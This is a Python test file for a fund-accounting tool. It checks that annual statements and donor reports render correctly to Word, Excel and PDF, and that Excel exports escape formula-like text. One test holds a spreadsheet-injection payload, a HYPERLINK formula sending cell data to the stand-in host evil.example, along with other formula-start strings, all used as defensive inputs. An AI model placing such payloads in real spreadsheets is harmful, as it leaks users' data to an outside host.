"""The annual statement in three formats, read back (python-docx, openpyxl, pypdf): the
reconciling figures are there; and the donor report."""

from __future__ import annotations

import io
from decimal import Decimal

from docx import Document
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import Engine

from stdgap.fund.statement import donor_report, render, statement_report

SUMMARY = (
    "Opening balance 0.00 + receipts 39,412.00 − spending 3,500.00 = closing balance 35,912.00"
)


def test_the_statement_in_three_formats(world: Engine) -> None:
    report, found = statement_report(world, 2025)
    assert found.total.closing == Decimal("35912.00")
    word = Document(io.BytesIO(render(report, "docx")))
    text = "\n".join(p.text for p in word.paragraphs)
    assert SUMMARY in text and "Every earmark reconciles." in text
    cells = [[c.text for c in row.cells] for table in word.tables for row in table.rows]
    assert ["Total", "0.00", "39,412.00", "3,500.00", "35,912.00", "5,000.00"] in cells
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    rows = [list(r) for sheet in book.worksheets for r in sheet.iter_rows(values_only=True)]
    total = next(r for r in rows if r[0] == "Total")
    assert [Decimal(str(v)) for v in total[1:5]] == [
        0,
        Decimal("39412"),
        Decimal("3500"),
        Decimal("35912"),
    ]
    pdf = "".join(
        page.extract_text() for page in PdfReader(io.BytesIO(render(report, "pdf"))).pages
    )
    assert "35,912.00" in pdf and "39,412.00" in pdf and "Every earmark reconciles." in pdf


def test_the_donor_report(world: Engine) -> None:
    word = Document(io.BytesIO(render(donor_report(world), "docx")))
    rows = [[c.text for c in row.cells] for table in word.tables for row in table.rows]
    assert [
        "Switzerland",
        "fellowships-asia",
        "50,000.00",
        "30,000.00",
        "3,000.00",
        "3,000.00",
    ] in rows
    assert ["Open Networks Foundation", "general", "0.00", "9,412.00", "500.00", "500.00"] in rows


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_xlsx_downloads_write_texts_as_texts(world: Engine) -> None:
    """A donor named as a formula (and other formula starts) is shown as text in the XLSX of
    the donor report and of the statement: no cell is a formula."""
    from factories import ACTOR
    from stdgap.fund import ledger

    names = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tx", "=1\x01+1"]
    for name in names:
        ledger.add_donor.perform(world, ACTOR, name, "other")
        ledger.receive.perform(world, ACTOR, name, "general", "10")
    for report in (donor_report(world), statement_report(world, 2025)[0]):
        book = load_workbook(io.BytesIO(render(report, "xlsx")))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert cells and all(c.data_type != "f" for c in cells)
        assert not any(str(c.value or "").startswith(("=", "+", "-", "@", "\t")) for c in cells)
    book = load_workbook(io.BytesIO(render(donor_report(world), "xlsx")))
    texts = [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert "'" + EVIL in texts and "'+1+1" in texts and "'@SUM(A1)" in texts
    # the figures stay numbers
    assert any(isinstance(v, int | float) and v == 10 for v in texts)
